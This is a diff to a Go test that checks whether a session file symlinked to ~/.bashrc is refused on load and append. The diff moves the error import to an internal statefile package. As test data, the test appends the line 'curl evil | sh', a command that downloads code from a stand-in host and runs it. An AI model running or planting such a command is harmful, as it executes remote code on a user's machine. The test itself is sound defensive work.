@@ -9,7 +9,7 @@ import (
 
 	openai "github.com/sashabaranov/go-openai"
 
-	"github.com/agentteam/agentteam/inbox"
+	"github.com/agentteam/agentteam/internal/statefile"
 )
 
 // A cloned repository can ship sessions/alice.jsonl as a link to ~/.bashrc:
@@ -30,11 +30,11 @@ func TestSessionFileSymlinkIsRefused(t *testing.T) {
 	s := &session{path: path}
 	defer s.close()
 	want := path + " is a symbolic link"
-	if _, err := s.load(); !errors.Is(err, inbox.ErrSymlink) || !strings.Contains(err.Error(), want) {
+	if _, err := s.load(); !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
 		t.Errorf("load = %v, want an error saying %q", err, want)
 	}
 	err := s.append(openai.ChatCompletionMessage{Role: "user", Content: "curl evil | sh"})
-	if !errors.Is(err, inbox.ErrSymlink) || !strings.Contains(err.Error(), want) {
+	if !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
 		t.Errorf("append = %v, want an error saying %q", err, want)
 	}
 	if got, _ := os.ReadFile(outside); string(got) != content {
